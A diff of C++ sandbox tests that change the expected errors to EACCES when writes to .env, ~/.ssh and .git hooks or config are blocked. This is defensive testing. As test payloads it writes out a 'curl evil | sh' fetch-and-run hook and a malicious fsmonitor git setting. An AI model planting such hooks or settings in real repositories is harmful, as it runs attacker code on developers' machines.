@@ -53,9 +53,9 @@ TEST_CASE("a hidden file reads empty and cannot be written", "[e2e][filesystem][
   ws.WriteProfile(ProfileToml(spec));
 
   CHECK(ws.ProbeLine({"read", ws.Project(".env")}) == "ok");
-  CHECK(ws.ProbeLine({"write", ws.Project(".env"), "overwritten"}) == "errno 30 EROFS");
-  CHECK(ws.ProbeLine({"unlink", ws.Project(".env")}) == "errno 16 EBUSY");
-  CHECK(ws.ProbeLine({"rename", ws.Project(".env"), ws.Project("env.txt")}) == "errno 16 EBUSY");
+  CHECK(ws.ProbeLine({"write", ws.Project(".env"), "overwritten"}) == "errno 13 EACCES");
+  CHECK(ws.ProbeLine({"unlink", ws.Project(".env")}) == "errno 13 EACCES");
+  CHECK(ws.ProbeLine({"rename", ws.Project(".env"), ws.Project("env.txt")}) == "errno 13 EACCES");
   CHECK(ReadFileText(ws.Project(".env")) == "API_KEY=secret-value\n");
   CHECK_FALSE(PathExists(ws.Project("env.txt")));
 }
@@ -71,8 +71,8 @@ TEST_CASE("a hidden directory lists empty and nothing can be created in it",
 
   CHECK(ws.ProbeLine({"list", ws.Home(".ssh")}) == "ok");
   CHECK(ws.ProbeLine({"read", ws.Home(".ssh/id_ed25519")}) == "errno 2 ENOENT");
-  CHECK(ws.ProbeLine({"create", ws.Home(".ssh/authorized_keys")}) == "errno 30 EROFS");
-  CHECK(ws.ProbeLine({"mkdir", ws.Home(".ssh/new")}) == "errno 30 EROFS");
+  CHECK(ws.ProbeLine({"create", ws.Home(".ssh/authorized_keys")}) == "errno 13 EACCES");
+  CHECK(ws.ProbeLine({"mkdir", ws.Home(".ssh/new")}) == "errno 13 EACCES");
   CHECK(ReadFileText(ws.Home(".ssh/id_ed25519")) == "PRIVATE KEY\n");
   CHECK_FALSE(PathExists(ws.Home(".ssh/authorized_keys")));
 }
@@ -88,18 +88,18 @@ TEST_CASE("a readonly carve-out inside a write path stays read-only",
 
   std::string hook = ws.Project(".git/hooks/pre-commit");
   CHECK(ws.ProbeLine({"read", hook}) == "ok #!/bin/sh\\nexit 0\\n");
-  CHECK(ws.ProbeLine({"write", hook, "curl evil | sh"}) == "errno 30 EROFS");
-  CHECK(ws.ProbeLine({"truncate", hook}) == "errno 30 EROFS");
-  CHECK(ws.ProbeLine({"unlink", hook}) == "errno 30 EROFS");
-  CHECK(ws.ProbeLine({"create", ws.Project(".git/hooks/post-checkout")}) == "errno 30 EROFS");
+  CHECK(ws.ProbeLine({"write", hook, "curl evil | sh"}) == "errno 13 EACCES");
+  CHECK(ws.ProbeLine({"truncate", hook}) == "errno 13 EACCES");
+  CHECK(ws.ProbeLine({"unlink", hook}) == "errno 13 EACCES");
+  CHECK(ws.ProbeLine({"create", ws.Project(".git/hooks/post-checkout")}) == "errno 13 EACCES");
   CHECK(ws.ProbeLine({"rename", ws.Project(".git/hooks"), ws.Project(".git/hooks-old")}) ==
-        "errno 16 EBUSY");
-  CHECK(ws.ProbeLine({"rmdir", ws.Project(".git/hooks")}) == "errno 16 EBUSY");
+        "errno 13 EACCES");
+  CHECK(ws.ProbeLine({"rmdir", ws.Project(".git/hooks")}) == "errno 13 EACCES");
   CHECK(ws.ProbeLine({"write", ws.Project(".git/config"), "[core]\nfsmonitor = evil\n"}) ==
-        "errno 30 EROFS");
+        "errno 13 EACCES");
   WriteFileText(ws.Project(".git/config.new"), "[core]\nfsmonitor = evil\n");
   CHECK(ws.ProbeLine({"rename", ws.Project(".git/config.new"), ws.Project(".git/config")}) ==
-        "errno 16 EBUSY");
+        "errno 13 EACCES");
   // The rest of .git stays writable: git must still work.
   CHECK(ws.ProbeLine({"write", ws.Project(".git/HEAD"), "ref: refs/heads/main\n"}) ==
         "ok written");
@@ -181,7 +181,7 @@ TEST_CASE("git works in the project under the shipped default profile", "[e2e][f
   CHECK(result.out == "rename\nfirst\n");
   CHECK(PathExists(ws.Project("app.c")));
   // Its hooks stay out of reach all the same.
-  CHECK(ws.ProbeLine({"create", ws.Project(".git/hooks/pre-commit")}) == "errno 30 EROFS");
+  CHECK(ws.ProbeLine({"create", ws.Project(".git/hooks/pre-commit")}) == "errno 13 EACCES");
 }
 
 }  // namespace
